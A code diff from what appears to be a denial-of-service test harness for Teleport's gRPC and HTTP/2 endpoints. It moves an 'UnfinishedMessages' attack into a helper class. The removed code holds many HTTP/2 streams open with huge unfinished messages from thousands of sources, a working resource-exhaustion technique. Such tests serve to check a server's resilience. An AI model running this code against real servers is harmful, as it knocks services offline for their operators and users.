@@ -14,25 +14,21 @@ import ssl
 import struct
 import time
 
-import h2.config
-import h2.connection
-import h2.events
 import hpack
 
 from grpc_client import SERVER_NAME, GrpcClient, client_context
 from hostile import HostileAgent
+from hostile_http2 import LARGEST_MESSAGE, PING, HostileHttp2
 from kube_doors import KubeDoor
 from protobuf import field
 from web import WebClient
 
-PING = "/proto.AuthService/Ping"
 JOIN = "/proto.JoinService/RegisterUsingToken"
 PROXY_SSH = "/teleport.transport.v1.TransportService/ProxySSH"
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0\0\0\0\0"
 HEADERS, RST_STREAM = 1, 3
 END_HEADERS = 4
 CANCEL = struct.pack(">I", 8)
-LARGEST_MESSAGE = 4 << 20
 SOURCES = 5000
 
 
@@ -93,41 +89,9 @@ class UnfinishedMessages(Attack):
     connection has a user's certificate."""
 
     def __call__(self):
-        identity = self.target.identity if len(self.held) % 2 else (None, None)
-        raw = connect(self.target.auth_port, next(self.sources))
-        stream = client_context(*identity, protocols=["h2"]).wrap_socket(raw, server_hostname=SERVER_NAME)
-        self.hold(stream, 200)
-        http = h2.connection.H2Connection(h2.config.H2Configuration(header_encoding="utf-8"))
-        http.initiate_connection()
-        left = {}
-        until = time.monotonic() + 2
-        stream.settimeout(0.2)
-        with contextlib.suppress(TimeoutError):
-            while time.monotonic() < until:
-                self.send_some(http, left)
-                stream.sendall(http.data_to_send())
-                self.take(http.receive_data(stream.recv(65536)), left)
-
-    @staticmethod
-    def send_some(http, left):
-        while len(left) < min(64, http.remote_settings.max_concurrent_streams):
-            number = http.get_next_available_stream_id()
-            http.send_headers(number, grpc_headers(PING))
-            left[number] = LARGEST_MESSAGE - 1
-            http.send_data(number, struct.pack(">BI", 0, LARGEST_MESSAGE))
-        for number, size in left.items():
-            room = min(http.local_flow_control_window(number), http.max_outbound_frame_size, size)
-            if room > 0:
-                http.send_data(number, bytes(room))
-                left[number] -= room
-
-    @staticmethod
-    def take(events, left):
-        for event in events:
-            if isinstance(event, (h2.events.StreamEnded, h2.events.StreamReset)):
-                left.pop(event.stream_id, None)
-            if isinstance(event, h2.events.ConnectionTerminated):
-                raise ConnectionResetError
+        attacker = HostileHttp2(self.target, self.target.identity if len(self.held) % 2 else None, next(self.sources))
+        self.hold(attacker, 200)
+        attacker.send_unfinished(2)
 
 
 class BigBodies(Attack):
